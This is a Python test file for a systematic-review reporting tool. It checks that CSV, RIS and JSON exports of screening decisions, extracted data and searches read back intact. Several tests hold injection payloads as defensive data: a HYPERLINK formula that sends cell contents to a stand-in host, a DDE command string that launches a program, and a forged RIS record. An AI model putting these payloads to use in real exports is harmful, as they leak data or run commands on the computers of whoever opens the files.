"""What leaves for spreadsheets and reference managers comes back as what was meant."""

import csv
import io
import json

import rispy
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.tools.reporting.invented import SEARCHES, decision, full, lines, record, review, search
from tools.reporting.data import ReviewData
from tools.reporting.export import counts_json, decisions_csv, extraction_csv, included_ris, search_text
from tools.reporting.prisma import count
from tools.reporting.text import original_text
from tools.schemas import Cell, Record, sha256_of


def read(text: str) -> list[dict[str, str]]:
    rows = csv.DictReader(io.StringIO(text, newline=""), strict=True)
    return [{original_text(k): original_text(v) for k, v in row.items()} for row in rows]


def with_record(rec: Record) -> ReviewData:
    return review(
        records=(full("1", decision("passed"), record=rec),),
        searches=(search("s1", "pubmed", "database", 1),),
    )


def test_decisions_have_one_row_per_record_in_stored_order() -> None:
    rows = read(decisions_csv(review()))
    assert [r["record_id"] for r in rows] == [x.record.record_id for x in lines()]
    assert [r["row"] for r in rows] == [str(i) for i in range(1, 27)]


def test_a_row_tells_who_decided_how_and_why_with_the_quote() -> None:
    row = read(decisions_csv(review()))[15]
    assert row["record_id"] == "pubmed:16"
    assert (row["full_text_decision"], row["full_text_reason"]) == ("excluded", "length")
    assert row["full_text_how"] == "bulk approval of machine suggestions"
    assert row["full_text_by"] == "person:Ada"
    assert (row["full_text population: label"], row["full_text population: quote"]) == (
        "YES",
        "adults who sleep badly",
    )
    start, end = map(int, row["full_text population: offsets"].split("–"))
    assert record("16").text[start:end] == "adults who sleep badly"
    assert (row["rank"], row["score"], row["above_cut"], row["sources"]) == ("1", "0.75", "yes", "pubmed")


def test_a_failure_shows_its_reason_and_leaves_the_decision_empty() -> None:
    row = read(decisions_csv(review()))[4]
    assert (row["title_abstract_failure"], row["title_abstract_failure_why"]) == (
        "timeout",
        "no answer in 60 s",
    )
    assert (row["title_abstract_decision"], row["title_abstract_suggestion"]) == ("", "")
    assert row["title_abstract population: label"] == ""


def test_lines_end_as_rfc_4180_says_and_every_row_has_every_column() -> None:
    text = decisions_csv(review())
    assert text.endswith("\r\n")
    widths = {len(r) for r in csv.reader(io.StringIO(text, newline=""), strict=True)}
    assert len(widths) == 1


def test_formulas_are_disarmed_and_can_be_read_back() -> None:
    title = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    text = decisions_csv(with_record(record("1", title=title, journal="+cmd|' /C calc'!A0")))
    raw = next(csv.DictReader(io.StringIO(text, newline="")))
    assert raw["title"] == "'" + title
    assert raw["journal"].startswith("'+")
    assert read(text)[0]["title"] == title


def test_a_criterion_whose_id_is_a_formula_is_disarmed_in_the_heading_too() -> None:
    criteria = (review().criteria[0].model_copy(update={"id": "@SUM"}),)
    head = next(csv.reader(io.StringIO(extraction_csv(review()) + decisions_csv(review(criteria=criteria)))))
    assert not any(name.startswith(("=", "+", "-", "@")) for name in head)


@settings(max_examples=40, deadline=None)
@given(st.text(), st.text(), st.text())
def test_any_title_journal_and_name_survive_the_csv(title: str, journal: str, name: str) -> None:
    data = with_record(record("1", title=title, journal=journal))
    rows = read(
        decisions_csv(
            data.model_copy(
                update={
                    "records": (
                        data.records[0].model_copy(
                            update={"title_abstract": decision("passed", by=f"person:{name}")}
                        ),
                    )
                }
            )
        )
    )
    assert (rows[0]["title"], rows[0]["journal"], rows[0]["title_abstract_by"]) == (
        title,
        journal,
        f"person:{name}",
    )


def test_a_verdict_on_a_criterion_of_an_older_protocol_keeps_its_columns() -> None:
    rows = read(decisions_csv(review(criteria=review().criteria[1:])))
    assert rows[0]["title_abstract population: label"] == "YES"


def test_extraction_is_long_and_negative_effects_stay_numbers() -> None:
    text = extraction_csv(review())
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == 6
    assert (rows[1]["value"], rows[1]["unit"], rows[1]["status"]) == ("-12.5", "min", "located")
    assert (rows[1]["quote"], rows[1]["quote_start"], rows[1]["located"]) == (
        "12 minutes longer",
        "90",
        "yes",
    )
    assert (rows[0]["unit"], rows[0]["study_id"], rows[0]["study_state"]) == (
        "people",
        "moss-2019",
        "included",
    )
    assert (rows[4]["value"], rows[4]["status"], rows[4]["reason"]) == ("", "failed", "malformed: no JSON")


def test_a_formula_as_extracted_value_is_disarmed() -> None:
    cell = Cell(report_id="pubmed:18", field_id="n", status="grounded", value="=1+1")
    assert next(csv.DictReader(io.StringIO(extraction_csv(review(cells=(cell,))))))["value"] == "'=1+1"


def test_included_reports_read_back_from_ris() -> None:
    entries = rispy.loads(included_ris(review()))
    assert [e["id"] for e in entries] == ["pubmed:18", "pubmed:19", "ctgov:NCT2", "ctgov:NCT3"]
    first = entries[0]
    assert first["title"] == "Warm milk and sleep, report 18"
    assert first["authors"] == ["Moss, Ada", "Fern, Bo"]
    assert (first["type_of_reference"], entries[2]["type_of_reference"]) == ("JOUR", "GEN")
    assert (first["start_page"], first["end_page"], first["year"], first["accession_number"]) == (
        "101",
        "9",
        "2019",
        "18",
    )
    assert first["abstract"] == "Forty adults who sleep badly drank milk. They slept 12 minutes longer."


FORGED = "Milk\nER  - \n\nTY  - JOUR\nTI  - A forged paper\u2028ER  - \x85TY  - BOOK"


def test_a_title_cannot_forge_a_reference() -> None:
    text = included_ris(with_record(record("1", title=FORGED, keywords=(FORGED,), authors=(FORGED,))))
    entries = rispy.loads(text)
    assert len(entries) == 1
    assert entries[0]["title"] == "Milk ER - TY - JOUR TI - A forged paper ER - TY - BOOK"
    assert text.count("\r\nER  - ") == 1


@settings(max_examples=40, deadline=None)
@given(st.text(min_size=1), st.text(), st.lists(st.text(), max_size=3))
def test_no_text_changes_the_number_of_references(title: str, abstract: str, keywords: list[str]) -> None:
    rec = record("1", title=title, abstract=abstract, keywords=tuple(keywords), doi="10.1/\nER  - ")
    assert len(rispy.loads(included_ris(with_record(rec)))) == 1


def test_searches_stand_exactly_as_they_were_run_with_the_hash_of_the_string() -> None:
    text = search_text(review())
    for run in SEARCHES:
        assert f"\n{run.query_sent}\n" in text
        assert sha256_of(run.query_sent) in text
    assert "15 Records: 20 declared, 19 received, 1 missing" in text
    assert "Missing ids: 999" in text
    assert "Warning: the phrase 'warm milk' was not found as a phrase" in text
    assert text.count("SUPERSEDED") == 1
    assert '"mindate": "1990"' in text


def test_counts_json_says_where_the_rows_of_each_number_are() -> None:
    data = review()
    whole = json.loads(counts_json(data, count(data), {"a": "b"}))
    assert whole["counts"]["identified"] == 25
    assert all(e["holds"] and e["left"] == e["right"] for e in whole["equations"])
    numbers = {e["key"]: e for e in whole["numbers"]}
    assert numbers["excluded:bulk"]["n"] == 2
    assert "title/abstract: excluded" in numbers["excluded:bulk"]["where"]
    assert whole["files_sha256"] == {"a": "b"}
